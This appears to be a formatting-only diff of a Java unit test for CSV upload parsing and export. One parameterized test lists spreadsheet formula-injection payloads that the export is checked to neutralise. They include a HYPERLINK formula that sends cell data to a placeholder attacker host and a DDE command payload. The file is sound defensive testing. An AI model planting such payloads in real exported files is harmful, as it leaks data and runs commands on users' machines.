@@ -35,7 +35,8 @@ class UploadCsvTest {
 
     @Test
     void columnsAreFoundByTheirNames() {
-        UploadLayout layout = UploadCsv.read("day,id\n2026-11-21,1\n", "id", "day").layout();
+        UploadLayout layout =
+                UploadCsv.read("day,id\n2026-11-21,1\n", "id", "day").layout();
 
         assertEquals(1, layout.keyColumn());
         assertEquals(0, layout.dateColumn());
@@ -43,47 +44,84 @@ class UploadCsvTest {
 
     @Test
     void moreKeysThanAnUploadMayHaveAreTooLarge() {
-        String text = "id\n" + IntStream.rangeClosed(0, Uploads.MAX_ITEMS).mapToObj(Integer::toString).collect(Collectors.joining("\n"));
+        String text = "id\n"
+                + IntStream.rangeClosed(0, Uploads.MAX_ITEMS)
+                        .mapToObj(Integer::toString)
+                        .collect(Collectors.joining("\n"));
 
-        assertEquals(ProblemType.TOO_LARGE, assertThrows(ProblemException.class, () -> UploadCsv.read(text, null, null)).type());
+        assertEquals(
+                ProblemType.TOO_LARGE,
+                assertThrows(ProblemException.class, () -> UploadCsv.read(text, null, null))
+                        .type());
     }
 
     @Test
     void aRowThatNoPropertyHoldsIsRefused() {
         String text = "id,note\n1,a\n2," + "x".repeat(Uploads.MAX_ROW_UNITS);
 
-        assertEquals("line 3 has more than 30000 characters as JSON.",
-                assertThrows(ProblemException.class, () -> UploadCsv.read(text, null, null)).getMessage());
+        assertEquals(
+                "line 3 has more than 30000 characters as JSON.",
+                assertThrows(ProblemException.class, () -> UploadCsv.read(text, null, null))
+                        .getMessage());
     }
 
-    /** Each empty value takes its quotes and a comma in storage: a row of them was stored in part, and then refused for its size. */
+    /**
+     * Each empty value takes its quotes and a comma in storage: a row of them was stored in part, and then refused for
+     * its size.
+     */
     @Test
     void emptyColumnsCountToo() {
         String commas = ",".repeat(Uploads.MAX_ROW_UNITS / 3);
 
-        assertEquals("header has more than 30000 characters as JSON.",
-                assertThrows(ProblemException.class, () -> UploadCsv.read("id" + commas + "\n", null, null)).getMessage());
+        assertEquals(
+                "header has more than 30000 characters as JSON.",
+                assertThrows(ProblemException.class, () -> UploadCsv.read("id" + commas + "\n", null, null))
+                        .getMessage());
     }
 
     @Test
     void whatIsWrittenIsWhatWasReadWithNumbersAndTexts() {
         UploadLayout layout = new UploadLayout(List.of("id", "note, or so"), 0, UploadLayout.NO_COLUMN, null, 1);
-        Uploads.Item numbered = new Uploads.Item(new UploadRow(List.of("1", "a \"b\"\r\nc")), answer(new Numbers("1", 7, 7, 1, 1, List.of("N,7"), false)));
-        Uploads.Item refused =
-                new Uploads.Item(new UploadRow(List.of("2", "")), Answer.refused(new ProblemException(ProblemType.EXHAUSTED, "None left.")));
-        Uploads.Item several = new Uploads.Item(new UploadRow(List.of("3", "x")), answer(new Numbers("3", 8, 4, 3, -2, null, false)));
+        Uploads.Item numbered = new Uploads.Item(
+                new UploadRow(List.of("1", "a \"b\"\r\nc")),
+                answer(new Numbers("1", 7, 7, 1, 1, List.of("N,7"), false)));
+        Uploads.Item refused = new Uploads.Item(
+                new UploadRow(List.of("2", "")),
+                Answer.refused(new ProblemException(ProblemType.EXHAUSTED, "None left.")));
+        Uploads.Item several =
+                new Uploads.Item(new UploadRow(List.of("3", "x")), answer(new Numbers("3", 8, 4, 3, -2, null, false)));
 
-        assertEquals("id,\"note, or so\",number,text\r\n1,\"a \"\"b\"\"\r\nc\",7,\"N,7\"\r\n2,,,\r\n3,x,8,\r\n3,x,6,\r\n3,x,4,\r\n",
+        assertEquals(
+                "id,\"note, or so\",number,text\r\n1,\"a \"\"b\"\"\r\nc\",7,\"N,7\"\r\n2,,,\r\n3,x,8,\r\n3,x,6,\r\n3,x,4,\r\n",
                 UploadCsv.write(layout, Stream.of(numbered, refused, several)));
     }
 
     /** A spreadsheet takes such a text for a formula, which can send the rest of the sheet anywhere. */
     @ParameterizedTest
-    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"paid\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
-            "\uff1d1+1", "+", "-", "-5 EUR", "+49 170 1", "-1,000.5", "--5", "-.5", "=5", "@5"})
+    @ValueSource(
+            strings = {
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"paid\")",
+                "+cmd|' /C calc'!A0",
+                "-2+3",
+                "@SUM(1)",
+                "\t=1",
+                "\r=1",
+                "\n=1",
+                "\uff1d1+1",
+                "+",
+                "-",
+                "-5 EUR",
+                "+49 170 1",
+                "-1,000.5",
+                "--5",
+                "-.5",
+                "=5",
+                "@5"
+            })
     void aTextThatBeginsLikeAFormulaIsMadeHarmless(String text) {
         UploadLayout layout = new UploadLayout(List.of(text, "id"), 1, UploadLayout.NO_COLUMN, null, 1);
-        Uploads.Item item = new Uploads.Item(new UploadRow(List.of(text, "k")), answer(new Numbers("k", -7, -7, 1, 1, List.of(text), false)));
+        Uploads.Item item = new Uploads.Item(
+                new UploadRow(List.of(text, "k")), answer(new Numbers("k", -7, -7, 1, 1, List.of(text), false)));
 
         String csv = UploadCsv.write(layout, Stream.of(item));
 
@@ -93,12 +131,34 @@ class UploadCsvTest {
     }
 
     @ParameterizedTest
-    @ValueSource(strings = {"", "5", "-5", "+5", "-5.25", "-5,25", "'=1", "a=1", " =1", "1-1", "2026-11-21", "\u2212" + "5", "#1"})
+    @ValueSource(
+            strings = {
+                "",
+                "5",
+                "-5",
+                "+5",
+                "-5.25",
+                "-5,25",
+                "'=1",
+                "a=1",
+                " =1",
+                "1-1",
+                "2026-11-21",
+                "\u2212" + "5",
+                "#1"
+            })
     void numbersAndHarmlessTextsStayAsTheyWere(String text) {
         UploadLayout layout = new UploadLayout(List.of("id", "note"), 0, UploadLayout.NO_COLUMN, null, 1);
-        Uploads.Item item = new Uploads.Item(new UploadRow(List.of("1", text)), answer(new Numbers("1", -7, -7, 1, 1, null, false)));
+        Uploads.Item item = new Uploads.Item(
+                new UploadRow(List.of("1", text)), answer(new Numbers("1", -7, -7, 1, 1, null, false)));
 
-        assertEquals(text, UploadCsv.read(UploadCsv.write(layout, Stream.of(item)), null, null).rows().get(0).values().get(1));
+        assertEquals(
+                text,
+                UploadCsv.read(UploadCsv.write(layout, Stream.of(item)), null, null)
+                        .rows()
+                        .get(0)
+                        .values()
+                        .get(1));
     }
 
     private static List<List<String>> values(UploadedRows rows) {
